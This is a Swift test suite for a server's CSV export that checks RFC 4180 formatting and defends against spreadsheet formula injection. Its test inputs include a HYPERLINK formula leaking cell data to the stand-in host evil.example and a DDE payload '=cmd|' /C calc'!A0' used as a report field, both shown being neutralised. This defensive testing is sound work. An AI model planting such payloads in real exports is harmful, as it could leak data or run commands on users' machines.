import Foundation
import Testing
@testable import WatchdogServer
import WatchdogTesting

/// CSV for spreadsheets (issue 42, point 4): RFC 4180 records, client text never a formula,
/// the same rows as the JSON views, reports streamed.
@Suite struct CSVExportTests {
    /// The characters a spreadsheet starts a formula with (OWASP "CSV Injection").
    static let formulaStarts = ["=", "+", "-", "@", "\t", "\r"]

    @Test(arguments: formulaStarts)
    func textBeginningWithAFormulaCharacterIsWrittenAsText(_ start: String) {
        let hostile = start + "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        let field = String(decoding: CSVText.field(.text(hostile)), as: UTF8.self)
        // Quoted (it holds quotes, and a CR for "\r"), the quote's content begins with '.
        let parsed = Self.parse(field + "\r\n")
        #expect(parsed == [["'" + hostile]], "\(field.debugDescription)")
        #expect(String(decoding: CSVText.field(.text(start)), as: UTF8.self).hasPrefix(start == "\r" ? "\"'" : "'"))
    }

    @Test func numbersTheServerComputedStayNumbersNegativeOnesToo() {
        #expect(CSVText.field(.number(-0.25)) == Array("-0.25".utf8))
        #expect(CSVText.field(.integer(-3)) == Array("-3".utf8))
        #expect(CSVText.field(.number(42)) == Array("42".utf8))
        #expect(CSVText.field(.number(.nan)).isEmpty)
        // The same characters as text (a client's release name) are not a number.
        #expect(CSVText.field(.text("-0.25")) == Array("'-0.25".utf8))
    }

    @Test func fieldsRoundTripThroughAnRFC4180Reader() {
        var generator = SystemRandomNumberGenerator()
        let alphabet: [String] = ["a", "Z", "0", ",", "\"", "\r", "\n", "\r\n", " ", "é", "😀", ";", "'", "x"]
        for _ in 0..<500 {
            let row = (0..<Int.random(in: 1...6, using: &generator)).map { _ in
                (0..<Int.random(in: 0...12, using: &generator)).map { _ in alphabet.randomElement(using: &generator)! }.joined()
            }
            let bytes = CSVText.record(row.map(CSVText.Cell.text))
            #expect(bytes.suffix(2) == [0x0D, 0x0A])
            // Read back as written, but for the ' in front of a field that began with a formula character.
            let expected = row.map { Self.formulaStarts.contains(String($0.unicodeScalars.first.map(Character.init) ?? " ")) ? "'" + $0 : $0 }
            #expect(Self.parse(String(decoding: bytes, as: UTF8.self)) == [expected], "\(row)")
        }
        #expect(CSVText.record([.text("a,b"), .text("say \"hi\""), .text("two\r\nlines"), .empty, .bool(true)])
            == Array("\"a,b\",\"say \"\"hi\"\"\",\"two\r\nlines\",,true\r\n".utf8))
    }

    @Test func hostileReleaseNamesAndScreensAreTextInEveryTable() throws {
        let app = try TestApplication()
        let key = try app.addApp("com.example.mail")
        let viewer = try app.addToken(role: "viewer")
        let names = ["=1+1", "+SUM(A1)", "-2", "@cmd"]
        for (index, name) in names.enumerated() {
            let sessions = (0..<4).map { _ in Fixtures.session(version: name, build: "\(index + 1)") }
            #expect(try app.client.postJSON("/v1/sessions", token: key, json: ["sessions": sessions]).status == 202)
            var reports = try (0..<2).map { _ in try Fixtures.freshReport(version: name, build: "\(index + 1)") }
            for i in reports.indices { reports[i]["screen"] = "=cmd|' /C calc'!A0" }
            #expect(try app.client.postJSON("/v1/reports", token: key, json: ["reports": reports]).status == 202)
        }
        let releases = try app.client.request("GET", "/v1/apps/com.example.mail/releases.csv", token: viewer)
        #expect(releases.status == 200, "\(releases.text)")
        #expect(releases.headers["content-type"]?.hasPrefix("text/csv") == true)
        #expect(releases.headers["content-disposition"] == "attachment; filename=\"com.example.mail-releases.csv\"")
        let releaseRows = Self.parse(releases.text)
        let releaseColumn = try #require(releaseRows.first?.firstIndex(of: "version"))
        #expect(Set(releaseRows.dropFirst().map { $0[releaseColumn] }) == Set(names.map { "'" + $0 }))
        let sessionsColumn = try #require(releaseRows.first?.firstIndex(of: "sessions"))
        #expect(releaseRows.dropFirst().allSatisfy { $0[sessionsColumn] == "4" }, "counts are numbers, not text")
        #expect(releaseRows.allSatisfy { $0.count == releaseRows[0].count })

        let issues = try app.client.request("GET", "/v1/apps/com.example.mail/issues.csv?release=-2%20(3)", token: viewer)
        #expect(issues.status == 200, "\(issues.text)")
        let issueRows = Self.parse(issues.text)
        let header = try #require(issueRows.first)
        let row = try #require(issueRows.dropFirst().first)
        #expect(row[try #require(header.firstIndex(of: "release"))] == "'-2 (3)")
        #expect(row[try #require(header.firstIndex(of: "screen"))] == "'=cmd|' /C calc'!A0")
        #expect(row[try #require(header.firstIndex(of: "reports"))] == "2")
        // Every text cell of every table: none begins with a formula character.
        let compare = try app.client.request("GET", "/v1/apps/com.example.mail/compare.csv?base=%3D1%2B1%20(1)&target=-2%20(3)", token: viewer)
        #expect(compare.status == 200, "\(compare.text)")
        let compareRows = Self.parse(compare.text)
        #expect(compareRows.first?.prefix(5) == ["base_release", "target_release", "dimension", "value", "verdict"])
        #expect(compareRows.dropFirst().first?.prefix(3) == ["'=1+1 (1)", "'-2 (3)", "overall"])
        let reports = try app.client.request("GET", "/v1/apps/com.example.mail/reports.csv", token: viewer)
        #expect(reports.streamed)
        let reportRows = Self.parse(reports.text)
        #expect(reportRows.count == 1 + 8)
        for table in [releaseRows, issueRows, compareRows, reportRows] {
            for cells in table.dropFirst() {
                for cell in cells where !cell.isEmpty && Double(cell) == nil {
                    #expect(!Self.formulaStarts.contains(String(cell.prefix(1))), "\(cell)")
                }
            }
        }
        // The report's JSON as sent is one cell; the release a text cell.
        let body = try #require(reportRows.dropFirst().first?.last)
        #expect((try JSONSerialization.jsonObject(with: Data(body.utf8)) as? [String: Any])?["screen"] as? String == "=cmd|' /C calc'!A0")
    }

    @Test func aByteOrderMarkOnlyWhenAskedFor() throws {
        let app = try TestApplication()
        let key = try app.addApp("com.example.mail")
        let viewer = try app.addToken(role: "viewer")
        #expect(try app.client.postJSON("/v1/reports", token: key, json: ["reports": [try Fixtures.freshReport()]]).status == 202)
        for path in ["releases.csv", "issues.csv", "reports.csv"] {
            let plain = try app.client.request("GET", "/v1/apps/com.example.mail/\(path)", token: viewer)
            let marked = try app.client.request("GET", "/v1/apps/com.example.mail/\(path)?bom=true", token: viewer)
            #expect(plain.status == 200 && marked.status == 200, "\(path): \(plain.text)")
            #expect(Array(plain.body.prefix(3)) != CSVText.byteOrderMark)
            #expect(marked.body == CSVText.byteOrderMark + plain.body, "\(path)")
            #expect(try app.client.request("GET", "/v1/apps/com.example.mail/\(path)?bom=yes", token: viewer).status == 400)
        }
    }

    /// A strict RFC 4180 reader: records end with CRLF, quoted fields double their quotes,
    /// a quote inside an unquoted field is an error (the record is dropped, so a test fails).
    static func parse(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false, inQuotes = false, broken = false
        let scalars = Array(text.unicodeScalars)
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            if inQuotes {
                if scalar == "\"" {
                    if index + 1 < scalars.count, scalars[index + 1] == "\"" { field.unicodeScalars.append("\""); index += 1 } else { inQuotes = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                if field.isEmpty && !quoted { quoted = true; inQuotes = true } else { broken = true }
            } else if scalar == "," {
                record.append(field); field = ""; quoted = false
            } else if scalar == "\r", index + 1 < scalars.count, scalars[index + 1] == "\n" {
                record.append(field)
                if !broken { records.append(record) }
                record = []; field = ""; quoted = false; broken = false
                index += 1
            } else if scalar == "\r" || scalar == "\n" || quoted {
                broken = true
            } else {
                field.unicodeScalars.append(scalar)
            }
            index += 1
        }
        if !record.isEmpty || !field.isEmpty { records.append(["<unterminated record>"]) }
        return records
    }
}
